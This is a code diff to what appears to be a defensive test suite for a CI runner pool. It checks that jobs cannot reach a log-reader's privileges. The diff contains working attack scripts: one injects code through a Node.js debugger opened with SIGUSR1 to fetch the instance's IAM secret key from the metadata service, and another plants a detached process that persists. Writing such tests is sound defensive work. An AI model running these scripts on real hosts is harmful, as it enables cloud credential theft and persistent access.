@@ -4,19 +4,15 @@ import { poolNames } from "../../../contract/actions-runner-pool/names";
 import { HOST_UNITS } from "../../../contract/shared/host-units";
 import { LivePool } from "../../../rehearsal/scenarios/actions-runner-pool/live-pool";
 import { needSystemd } from "../../rehearsal/hosts/rig";
-import { asJob, asRoot, assertRefused, assertWorks, scaleIn, type Attempt, type Outcome } from "./attempts";
+import { asJob, asRoot, assertRefused, assertWorks, runnerUid, scaleIn, type Attempt, type Outcome } from "./attempts";
 
 /** Several times the usual duration; a bound on a hang, not a measurement. */
 const BOUND_MS = 900_000;
 const DIAGNOSTICS = `${PATHS.runner}/_diag`;
 const UNREACHABLE = /curl: \(\d+\) .*(Failed to connect|timed out|Timeout|Couldn't connect)/i;
 
-/**
- * A process of Node.js opens its debugger at a signal (SIGUSR1) of its own user, and runs there whatever it is told: here, to fetch
- * the role's secret key.
- */
-const DEBUGGER = `cat >$TMPDIR/debug.js <<'JS'
-const theft = \`new Promise((resolve, reject) => {
+/** To fetch the role's secret key. */
+const THEFT = `new Promise((resolve, reject) => {
   const http = require("http");
   const ask = (method, path, headers, then) => {
     const call = http.request({ host: "169.254.169.254", path: "/latest/" + path, method, headers, timeout: 3000 }, (answer) => {
@@ -30,28 +26,34 @@ const theft = \`new Promise((resolve, reject) => {
     ask("GET", "meta-data/iam/security-credentials/", headers, (role) =>
       ask("GET", "meta-data/iam/security-credentials/" + role, headers, resolve));
   });
-})\`;
-const params = { expression: theft, awaitPromise: true, returnByValue: true, includeCommandLineAPI: true };
+})`;
+
+/** To start a program, which then is the reader's child and not the job's. */
+const START = `(require("child_process").spawn("/var/tmp/in-reader", ["100000"], { detached: true, stdio: "ignore" }).unref(), "started")`;
+
+/** A process of Node.js opens its debugger at a signal (SIGUSR1) of its own user, and runs there whatever it is told. */
+const inReader = (expression: string, sign: string) => `export TMPDIR=$(mktemp -d)
+cat >$TMPDIR/debug.js <<'JS'
+const params = { expression: ${JSON.stringify(expression)}, awaitPromise: true, returnByValue: true, includeCommandLineAPI: true };
 const socket = new WebSocket(process.argv[2]);
 socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params }));
 socket.onmessage = ({ data }) => {
   console.log(data);
-  process.exit(data.includes("SecretAccessKey") ? 0 : 1);
+  process.exit(data.includes("${sign}") ? 0 : 1);
 };
 socket.onerror = () => process.exit(2);
 JS
 pid=$(pgrep -u "$(id -u)" -f '${PATHS.agent} diagnostics$') || { echo "no reader"; exit 3; }
-`;
-const THROUGH_THE_READER: Attempt = {
-  title: "get the instance's credentials through the process that reads its runner's logs",
-  script: `export TMPDIR=$(mktemp -d)
-${DEBUGGER}kill -USR1 $pid || exit
+kill -USR1 $pid || exit
 for n in $(seq 50); do
   url=$(curl -sS -m 3 http://127.0.0.1:9229/json | sed -n 's/.*"webSocketDebuggerUrl": "\\(.*\\)".*/\\1/p') && [ -n "$url" ] && break
   sleep 0.1
 done
 [ -n "$url" ] || exit 4
-timeout 10 ${PATHS.node} --experimental-websocket $TMPDIR/debug.js "$url"`,
+timeout 10 ${PATHS.node} --experimental-websocket $TMPDIR/debug.js "$url"`;
+const THROUGH_THE_READER: Attempt = {
+  title: "get the instance's credentials through the process that reads its runner's logs",
+  script: inReader(THEFT, "SecretAccessKey"),
   refusal: UNREACHABLE,
 };
 
@@ -139,6 +141,24 @@ describe("a job on an instance that delivers its logs", function () {
 chown "$(stat -c %U ${DIAGNOSTICS})" ${DIAGNOSTICS}/Worker_20990101-000000-open.log`,
     );
     await pool.untilSeen("the same in a file of the job's", async () => seen("root's secret"), 120);
+  });
+
+  it("leaves nothing that it started through the reader beside the jobs of a later start of the runner", async () => {
+    const uid = await runnerUid(pool, instance);
+    // For seconds: a restart of the shipper restarts the former reader, too, which then ends at once.
+    const age = `ps -o etimes= -p "$(pgrep -u ${uid} -f '${PATHS.agent} diagnostics$')"`;
+    const reading = async () => (await pool.run(instance, `[ "$(${age})" -ge 3 ]`)).exitCode === 0;
+    await pool.untilSeen("the reader", reading, 60);
+    // The debugger stands for ptrace(2), which needs no address.
+    await pool.sh(instance, `systemctl set-property --runtime ${HOST_UNITS.diagnostics} IPAddressDeny=`);
+    const script = `cp /bin/sleep /var/tmp/in-reader; ${inReader(START, "started")}`;
+    const [planted] = await asJob(pool, instance, [{ script }], "planter");
+    assert.equal(planted!.code, 0, planted!.output);
+    const cgroup = await pool.sh(instance, "cat /proc/$(pgrep -x in-reader)/cgroup");
+    assert.ok(cgroup.includes(HOST_UNITS.diagnostics), `it must be where no job's unit or slice ends it: ${cgroup}`);
+    await pool.sh(instance, `systemctl restart ${UNITS.runner}`);
+    assert.equal((await pool.run(instance, "pgrep -x in-reader")).exitCode, 1, "it would see the next job's secrets");
+    await pool.untilSeen("a new reader", reading, 60);
   });
 
   it("cannot keep the agent's lines from the stream by flooding the journal or its diagnostics", async () => {
